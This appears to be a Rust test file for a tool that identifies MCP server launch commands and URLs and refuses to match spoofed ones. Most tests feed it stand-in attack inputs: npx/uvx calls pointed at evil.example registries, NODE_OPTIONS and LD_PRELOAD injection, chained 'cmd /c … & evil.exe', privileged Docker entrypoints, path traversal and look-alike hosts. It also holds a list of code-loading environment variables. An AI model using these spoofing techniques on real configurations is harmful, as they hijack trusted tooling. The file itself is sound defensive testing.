//! What counts as the same server, and every way known to us to pass off another one as it.

use policy::{Document, Mode, Ruleset, ServerIdentity, Standing};

/// A command line by its words; `'…'` keeps spaces.
fn identity(line: &str) -> String {
    let mut words = Vec::new();
    for (index, quoted) in line.split('\'').enumerate() {
        if index % 2 == 1 {
            words.push(quoted.to_owned());
        } else {
            words.extend(quoted.split_whitespace().map(str::to_owned));
        }
    }
    ServerIdentity::from_command(&words[0], &words[1..]).as_str().to_owned()
}

/// Is the identity one of a package or image, or only of a program with a digest of its arguments?
fn unread(line: &str) -> bool {
    let identity = identity(line);
    identity.starts_with("exec:") && identity.contains(" sha256:")
}

fn catalogue(matcher: &str) -> Ruleset {
    let text = format!("[servers.it]\nmatch = ['{matcher}']");
    let document = Document::parse(&text).expect(matcher);
    Ruleset::compile(&document, &Standing::default(), 1, None).expect("it compiles")
}

fn matches(matcher: &str, identity: &ServerIdentity) -> bool {
    catalogue(matcher).server_name(identity) == Some("it")
}

#[test]
fn a_command_line_has_one_canonical_identity() {
    for (line, expected) in [
        ("npx -y @scope/name", "npm:@scope/name"),
        ("npx @scope/name@1.2.3 --token secret /data", "npm:@scope/name@1.2.3"),
        ("npx -y server@latest", "npm:server@latest"),
        ("npx --yes -p @scope/name name", "npm:@scope/name"),
        ("npx --package=@scope/name@2 other-tool x", "npm:@scope/name@2 other-tool"),
        ("npx -- @scope/name", "npm:@scope/name"),
        ("/opt/homebrew/bin/npx -y name", "npm:name"),
        ("/home/alice/.nvm/versions/node/v22.1.0/bin/npx -y name", "npm:name"),
        ("'C:\\Program Files\\nodejs\\npx.cmd' -y name", "npm:name"),
        ("npm exec -y -- @scope/name --flag", "npm:@scope/name"),
        ("npm x name", "npm:name"),
        ("pnpm dlx @scope/name", "npm:@scope/name"),
        ("yarn dlx -q name", "npm:name"),
        ("bunx --bun name --port 1", "npm:name"),
        ("bun x name", "npm:name"),
        ("cmd /c npx -y name", "npm:name"),
        ("cmd.exe /d /s /c 'npx -y name'", "npm:name"),
        ("env TOKEN=secret npx -y name", "npm:name"),
        ("uvx mcp-server-time --local-timezone=UTC", "pypi:mcp-server-time"),
        ("uvx MCP_Server.Time@1.0", "pypi:mcp-server-time==1.0"),
        ("uvx --from 'mcp-server-time[extra]>=1.0' mcp-server-time", "pypi:mcp-server-time[extra]>=1.0"),
        ("uvx --from name tool", "pypi:name tool"),
        ("uv tool run name", "pypi:name"),
        ("pipx run --spec name==2 name", "pypi:name==2"),
        ("docker run -i --rm mcp/time", "oci:mcp/time"),
        ("docker run -it -e TOKEN=x docker.io/mcp/time:1@sha256:ab x", "oci:mcp/time:1@sha256:ab"),
        (
            "docker run --rm -i -v /home/me:/data ghcr.io/x/y:2 /data",
            "oci:ghcr.io/x/y:2 mount=/data command=/data",
        ),
        ("docker run -i --rm -w /srv/./x x/y stdio --dir /data", "oci:x/y workdir=/srv/x"),
        ("podman run --name=n --mount type=bind,src=/a,dst=/b library/redis", "oci:redis mount=/b"),
        ("docker run -v 'C:\\me:/data' x/y", "oci:x/y mount=/data"),
        ("python3 -u -m mcp_server --token secret", "exec:python3 -m mcp_server"),
        ("/usr/bin/python3.12 /srv/server.py", "exec:/usr/bin/python3.12 /srv/server.py"),
        ("node --no-warnings /srv/x.js --token secret", "exec:node /srv/x.js"),
        ("node '/srv/my server.js'", "exec:node /srv/my%20server.js"),
        ("deno run -A --allow-net=x /srv/x.ts", "exec:deno run /srv/x.ts"),
        ("java -jar /srv/x.jar --password secret", "exec:java -jar /srv/x.jar"),
        ("uv --directory /srv/x run server.py", "exec:uv --directory=/srv/x run server.py"),
        ("uv run --directory=/srv/x python -m mod", "exec:uv run --directory=/srv/x python -m mod"),
        ("/usr/local/bin/mcp-acme --token secret", "exec:/usr/local/bin/mcp-acme"),
        ("'/Applications/My App/run' x", "exec:/Applications/My%20App/run"),
        ("/usr/local//bin/./mcp-acme", "exec:/usr/local/bin/mcp-acme"),
    ] {
        assert_eq!(identity(line), expected, "{line}");
    }
}

#[test]
fn rotating_a_token_or_naming_other_data_is_the_same_server() {
    for (before, after) in [
        ("npx -y name --token old /a", "npx -y name --token new /b /c"),
        ("docker run -i -e T=old x/y", "docker run -i -e T=new x/y"),
        ("docker run x/y stdio --token old /a", "docker run x/y stdio --token new /b"),
        ("docker run -e HTTPS_PROXY=http://proxy:1 x/y", "docker run x/y"),
        ("node /srv/x.js --token old", "node /srv/x.js"),
        ("env T=old uvx name", "env T=new uvx name"),
        ("/usr/local/bin/mcp-acme old", "/usr/local/bin/mcp-acme new"),
    ] {
        assert_eq!(identity(before), identity(after));
    }
}

#[test]
fn attack_a_second_package_beside_the_good_one() {
    assert_eq!(identity("npx -p evil @good/pkg"), "npm:evil @good/pkg");
    assert!(unread("npx -p evil -p @good/pkg pkg"));
    assert!(unread("uvx --with evil good"));
    assert!(unread("uvx --from good --from evil good"));
    assert!(unread("npm exec @good/pkg --package=evil"));
    assert!(unread("pnpm dlx @good/pkg --package=evil"));
}

#[test]
fn attack_another_program_out_of_the_good_package() {
    let good = "npm:@good/pkg";
    for line in ["npx -p @good/pkg sh -c evil", "npx --package=@good/pkg node /tmp/evil.js"] {
        let identity = ServerIdentity::from_canonical(identity(line));
        assert!(!matches(good, &identity), "{identity}");
    }
    assert!(!matches(
        "pypi:good",
        &ServerIdentity::from_canonical(identity("uvx --from good python -c evil"))
    ));
    assert!(unread("npx -c evil"));
    assert!(unread("npx -p @good/pkg -c evil"));
}

#[test]
fn attack_another_registry_or_an_unknown_flag() {
    for line in [
        "npx --registry=https://evil.example @good/pkg",
        "npx --registry https://evil.example @good/pkg",
        "npx --userconfig /tmp/npmrc @good/pkg",
        "npx -y --node-options=--require=/tmp/evil.js @good/pkg",
        "npm --prefix /tmp exec @good/pkg",
        "npm exec @good/pkg --registry=https://evil.example",
        "uvx --index-url https://evil.example good",
        "uvx --python /tmp/evil good",
        "pipx run --pip-args=--index-url=https://evil.example good",
        "docker --host tcp://evil.example run x/y",
        "docker run --entrypoint /bin/sh x/y -c evil",
        "docker run --privileged x/y",
        "docker run x/y sh -c evil",
        "docker run x/y /bin/sh -c evil",
    ] {
        assert!(unread(line), "{line}: {}", identity(line));
    }
}

#[test]
fn attack_a_spec_that_no_registry_answers() {
    for spec in [
        "github:x/y",
        "x/y",
        "./local",
        "../local",
        "/tmp/local",
        "~/local",
        "file:local",
        "http://e.example/a.tgz",
        "git+https://e.example/x.git",
        "good@npm:evil",
        "good@file:/tmp/evil",
        "good@https://e.example/a.tgz",
        "good@x/y",
        "good.tgz",
        "@good/pkg.tar.gz",
        "@good",
        "@good/",
        "@/pkg",
        "good@",
        "good@1 evil",
        ".",
        "",
    ] {
        assert!(unread(&format!("npx -y '{spec}'")), "{spec}");
    }
    for spec in [
        "./good",
        "git+https://e.example/x",
        "good @ https://e.example/x.whl",
        "good.whl",
        "good;x",
        "https://e.example/x.py",
    ] {
        assert!(unread(&format!("uvx '{spec}'")), "{spec}");
        assert!(unread(&format!("uvx --from '{spec}' good")), "{spec}");
    }
    for image in
        ["../x", "-x", "x//y", "X Y", "docker://x/y", "oci-archive:/tmp/x.tar", "dir:/tmp/x", "x/y:a/b"]
    {
        assert!(unread(&format!("podman run '{image}'")), "{image}");
    }
}

#[test]
fn attack_a_program_with_a_runners_name() {
    for line in [
        "./tools/npx -y @good/pkg",
        "/tmp/npx -y @good/pkg",
        "/home/me/project/bin/uvx good",
        "bin/docker run x/y",
    ] {
        assert!(unread(line), "{line}: {}", identity(line));
    }
    assert!(unread("/home/me/.nvm/versions/node/../../../../../tmp/bin/npx -y @good/pkg"));
    assert!(unread("/home/../tmp/.local/bin/npx -y @good/pkg"));
}

#[test]
fn attack_a_wrapper_that_runs_more_than_it_shows() {
    for line in [
        "cmd /c 'npx -y good & evil.exe'",
        "cmd /c npx -y good '&' evil.exe",
        "cmd /c npx -y good '%EVIL%'",
        "cmd /k npx -y good",
        "env -S 'npx -y good'",
        "env PATH=/tmp/evil npx -y good",
        "env npm_config_registry=https://evil.example npx -y good",
        "env NODE_OPTIONS=--require=/tmp/evil.js npx -y good",
        "sh -c 'npx -y good; evil'",
        "bash -lc 'npx -y good'",
        "docker run -e NODE_OPTIONS=--require=/x x/y",
        "node --require /tmp/evil.js /srv/x.js",
        "node -e evil",
        "python3 -c evil",
        "powershell -Command evil",
        "sudo npx -y good",
    ] {
        assert!(unread(line), "{line}: {}", identity(line));
    }
    assert_ne!(identity("sh -c 'npx a'"), identity("sh -c 'npx b'"));
    assert_ne!(identity("sh a bc"), identity("sh ab c"));
}

#[test]
fn attack_a_bridge_to_another_server_under_the_good_bridges_name() {
    let good = identity(
        "npx -y mcp-remote https://MCP.acme.example/sse?key=secret --header 'Authorization: Bearer x'",
    );
    assert_eq!(good, "npm:mcp-remote https://mcp.acme.example/sse");
    let evil = ServerIdentity::from_canonical(identity("npx -y mcp-remote https://evil.example/sse"));
    for matcher in [
        "npm:mcp-remote",
        "npm:mcp-remote https://mcp.acme.example/sse",
        "npm:mcp-remote https://mcp.acme.example/*",
    ] {
        assert!(!matches(matcher, &evil), "{matcher}");
    }
    assert!(matches("npm:mcp-remote https://mcp.acme.example/*", &ServerIdentity::from_canonical(good)));
    for line in [
        "npx mcp-remote https://mcp.acme.example/sse --resource https://evil.example",
        "npx supergateway --stdio 'evil https://mcp.acme.example/sse'",
        "uvx mcp-proxy evil",
        "npx -y tsx /tmp/evil.ts",
        "uvx python -c evil",
    ] {
        assert!(identity(line).contains(" sha256:"), "{line}: {}", identity(line));
    }
    let star = "[servers.it]\nmatch = ['npm:mcp-remote https://*.acme.example/x']";
    assert!(Document::parse(star).is_err(), "a star in a carried host would reach into the path");
}

/// What Node's `new URL` takes for `https://evil.example`, which the bridge then dials, with the good
/// address in a place where the bridge does not look.
#[test]
fn attack_an_address_that_only_the_bridge_recognises_stands_before_the_good_one() {
    let good = "https://good.example/mcp";
    for evil in [
        "https:evil.example/mcp",
        "https:\\\\evil.example/mcp",
        "https:/evil.example/mcp",
        "https:///evil.example/mcp",
        "HTTPS:evil.example/mcp",
        " https:evil.example/mcp",
        "ht\ntps:evil.example/mcp",
        "http:evil.example",
        "ws:evil.example",
        "wss:evil.example",
        "https://evil.example\\@good.example/mcp",
        "--header",
        "evil",
    ] {
        for before in ["", "--resource ", "--header 'X: y' "] {
            for line in [
                format!("npx -y mcp-remote {before}'{evil}' {good}"),
                format!("npx -y mcp-remote '{evil}' --resource {good}"),
                format!("npx -y mcp-remote '{evil}' --header 'X: {good}'"),
            ] {
                assert!(identity(&line).contains(" sha256:"), "{line}: {}", identity(&line));
            }
        }
    }
    for line in [
        "uvx mcp-proxy --headers https://good.example/mcp X evil",
        "uvx mcp-proxy https://good.example/mcp --named-server x evil",
        "npx supergateway --sse https://good.example/mcp --stdio=evil",
        "npx mcp-remote https://good.example/mcp --resource=https:evil.example",
    ] {
        assert!(identity(line).contains(" sha256:"), "{line}: {}", identity(line));
    }
    for line in [
        "npx -y mcp-remote https://good.example/mcp 3334 --header 'Authorization: Bearer x'",
        "npx -y mcp-remote HTTPS://GOOD.example:443/mcp --transport http-only",
    ] {
        assert_eq!(identity(line), "npm:mcp-remote https://good.example/mcp", "{line}");
    }
    assert_eq!(
        identity("npx supergateway --sse https://good.example/mcp"),
        "npm:supergateway https://good.example/mcp"
    );
    assert_eq!(
        identity("uvx mcp-proxy --transport=streamablehttp https://good.example/mcp"),
        "pypi:mcp-proxy https://good.example/mcp"
    );
}

#[test]
fn attack_a_container_that_runs_a_program_out_of_a_mount() {
    let good = "oci:ghcr.io/acme/notes:1 mount=/data";
    let mount = "docker run -i --rm -v /tmp/evil:/data";
    assert_eq!(identity(&format!("{mount} ghcr.io/acme/notes:1")), good);
    for line in [
        format!("{mount} -w /data ghcr.io/acme/notes:1"),
        format!("{mount} --workdir=/data ghcr.io/acme/notes:1"),
        format!("{mount} ghcr.io/acme/notes:1 /data/evil"),
        format!("{mount} ghcr.io/acme/notes:1 /data"),
        format!("{mount} ghcr.io/acme/notes:1 ./evil"),
        format!("{mount} ghcr.io/acme/notes:1 data/evil"),
        format!("{mount} --env-file /tmp/evil.env ghcr.io/acme/notes:1"),
        format!("{mount} -e GCONV_PATH=/data ghcr.io/acme/notes:1"),
    ] {
        let identity = ServerIdentity::from_canonical(identity(&line));
        assert!(!matches(good, &identity), "{line}: {identity}");
    }
    assert!(unread("docker run --env-file /tmp/evil.env ghcr.io/acme/notes:1"));
    assert!(unread("docker run -v /tmp/evil:/data node:20 /data/evil.js"));
    assert!(unread("docker run docker.io/library/python -c evil"));
    let secret = identity("docker run x/y hunter2/secret");
    assert!(secret.contains("command=sha256:") && !secret.contains("hunter2"), "{secret}");
}

#[test]
fn attack_a_variable_that_loads_code_or_redirects_what_is_reached() {
    use policy::identity::{Steered, steering};
    for variable in [
        "PATH",
        "path",
        "LD_PRELOAD",
        "GCONV_PATH",
        "GLIBC_TUNABLES",
        "PYTHONPATH",
        "PYTHONSTARTUP",
        "PYTHONHOME",
        "RUBYOPT",
        "PERL5OPT",
        "JAVA_TOOL_OPTIONS",
        "BASH_ENV",
        "ENV",
        "UV_INDEX_URL",
        "PIP_INDEX_URL",
        "DOCKER_HOST",
        "NODE_OPTIONS",
        "npm_config_registry",
    ] {
        assert_eq!(steering(variable), Some(Steered::Program), "{variable}");
    }
    for variable in [
        "HTTPS_PROXY",
        "https_proxy",
        "HTTP_PROXY",
        "all_proxy",
        "NODE_EXTRA_CA_CERTS",
        "NODE_TLS_REJECT_UNAUTHORIZED",
        "SSL_CERT_FILE",
        "SSL_CERT_DIR",
        "REQUESTS_CA_BUNDLE",
    ] {
        assert_eq!(steering(variable), Some(Steered::Connection), "{variable}");
    }
    for variable in ["GITHUB_TOKEN", "PYTHONUNBUFFERED", "NO_PROXY", "LANG"] {
        assert_eq!(steering(variable), None, "{variable}");
    }
}

#[test]
fn attack_a_file_mounted_over_the_images_program() {
    let mounted =
        ServerIdentity::from_canonical(identity("docker run -v /tmp/evil.js:/app/index.js good/image"));
    assert!(!matches("oci:good/image", &mounted), "{mounted}");
    assert!(!matches("oci:good/image mount=/data*", &mounted), "{mounted}");
    assert!(matches("oci:good/image mount=/app/*", &mounted));
}

#[test]
fn attack_a_path_that_climbs_out_of_an_allowed_folder() {
    let at = |line: &str| ServerIdentity::from_canonical(identity(line));
    assert!(matches("exec:/usr/local/bin/*", &at("/usr/local/bin/mcp-acme")));
    assert!(!matches("exec:/usr/local/bin/*", &at("/usr/local/bin/../../../tmp/evil")));
    assert!(!matches("exec:/usr/local/bin/*", &at("/usr/local/bin/node /tmp/evil.js")));
    assert!(!matches("exec:node /srv/*", &at("node /srv/../tmp/evil.js")));
    assert!(matches("exec:/usr/local/bin/x%20y", &at("'/usr/local/bin/x y' z")));
}

#[test]
fn a_matcher_without_version_matches_any_and_with_version_that_one() {
    for (matcher, text, expected) in [
        ("npm:@a/b", "npm:@a/b@1.2.3", true),
        ("npm:@a/b", "npm:@a/bc", false),
        ("npm:@a/b@1.2.3", "npm:@a/b@1.2.3", true),
        ("npm:@a/b@1.2.3", "npm:@a/b@1.2.4", false),
        ("npm:@a/b@1.2.3", "npm:@a/b", false),
        ("npm:@a/b@1.*", "npm:@a/b@1.9", true),
        ("npm:@a/*", "npm:@a/anything@2", true),
        ("npm:@a/*", "npm:@ab/anything", false),
        ("npm:a", "npm:a tool", false),
        ("npm:a *", "npm:a tool", true),
        ("npm:A", "npm:a", false),
        ("pypi:MCP_Server_Time", "pypi:mcp-server-time==1.0", true),
        ("pypi:a", "pypi:a[extra]", true),
        ("pypi:a==1.0", "pypi:a==1.0", true),
        ("pypi:a==1.0", "pypi:a>=1.0", false),
        ("oci:docker.io/mcp/time", "oci:mcp/time:3", true),
        ("oci:ghcr.io/x/y:2", "oci:ghcr.io/x/y:2", true),
        ("oci:ghcr.io/x/y:2", "oci:ghcr.io/x/y:2@sha256:ab", false),
        ("oci:ghcr.io/x/y:2*", "oci:ghcr.io/x/y:2@sha256:ab", true),
        ("oci:localhost:5000/x", "oci:localhost:5000/x:1", true),
    ] {
        let got = matches(matcher, &ServerIdentity::from_canonical(text));
        assert_eq!(got, expected, "{matcher} on {text}");
    }
}

#[test]
fn a_url_is_identified_without_what_may_be_secret() {
    for (url, expected) in [
        ("https://mcp.acme.example/mcp", "https://mcp.acme.example/mcp"),
        ("HTTPS://MCP.Acme.Example:443/mcp?token=secret#x", "https://mcp.acme.example/mcp"),
        ("https://user:secret@mcp.acme.example:8443", "https://mcp.acme.example:8443/"),
        ("http://localhost:80/a/../b", "http://localhost/b"),
        ("https://bücher.example/", "https://xn--bcher-kva.example/"),
        ("https://[::1]:9/x", "https://[::1]:9/x"),
    ] {
        assert_eq!(ServerIdentity::from_url(url).expect(url).as_str(), expected);
    }
    for url in ["mcp.acme.example", "ftp://x/", "file:///etc", "", "https://", "ws://x"] {
        assert!(ServerIdentity::from_url(url).is_err(), "{url}");
    }
}

#[test]
fn attack_a_host_that_only_looks_like_the_allowed_one() {
    let at = |url: &str| ServerIdentity::from_url(url).expect(url);
    let one = "https://mcp.acme.example/*";
    assert!(matches(one, &at("https://mcp.acme.example/v1/mcp")));
    for url in [
        "https://mcp.acme.example.evil.example/x",
        "https://mcp.acme.example@evil.example/x",
        "https://evil.example/https://mcp.acme.example/x",
        "https://evil.example\\@mcp.acme.example/x",
        "http://mcp.acme.example/x",
        "https://mcp.acme.example:8443/x",
    ] {
        assert!(!matches(one, &at(url)), "{url}");
    }
    let all = "https://*.acme.example/mcp/*";
    assert!(matches(all, &at("https://a.acme.example/mcp/x")));
    assert!(!matches(all, &at("https://evil.example/x.acme.example/mcp/x")));
    assert!(!matches(all, &at("https://evil-acme.example/mcp/x")));
    assert!(!matches(all, &at("https://a.acme.example/mcp/../admin")));
}

#[test]
fn the_exact_matcher_wins_over_the_starred_one() {
    let text =
        "[servers.all]\nmatch = ['npm:*']\nmode = 'monitor'\n[servers.one]\nmatch = ['npm:one', 'npm:one@2']";
    let document = Document::parse(text).expect("it parses");
    assert_eq!(document.defaults().mode, Mode::Monitor);
    let ruleset = Ruleset::compile(&document, &Standing::default(), 1, None).expect("it compiles");
    let name = |text: &str| ruleset.server_name(&ServerIdentity::from_canonical(text)).map(str::to_owned);
    assert_eq!(name("npm:one@2").as_deref(), Some("one"));
    assert_eq!(name("npm:other").as_deref(), Some("all"));
    assert_eq!(name("pypi:one"), None);
}

proptest::proptest! {
    #[test]
    fn any_command_line_has_an_identity_of_plain_words(
        command in "[ -~é\\n]{0,12}|npx|uvx|docker|cmd|env|uv|python3|npm",
        args in proptest::collection::vec("[ -~é\\n\u{0}]{0,10}|-y|-p|run|exec|--|/c|--from|@a/b|a@1|x=1", 0..6),
    ) {
        let identity = ServerIdentity::from_command(&command, &args);
        let text = identity.as_str();
        proptest::prop_assert!(["npm:", "pypi:", "oci:", "exec:"].iter().any(|scheme| text.starts_with(scheme)));
        proptest::prop_assert!(!text.chars().any(char::is_control), "{text:?}");
        proptest::prop_assert_eq!(&ServerIdentity::from_command(&command, &args), &identity);
        let literal = !text.contains(['*', '?', '[', ']', '{', '}', '\\', '\'']);
        if literal && text.len() > 5 && !text.contains("://") {
            proptest::prop_assert!(matches(text, &identity), "an identity written as a matcher matches itself: {text}");
        }
    }
}
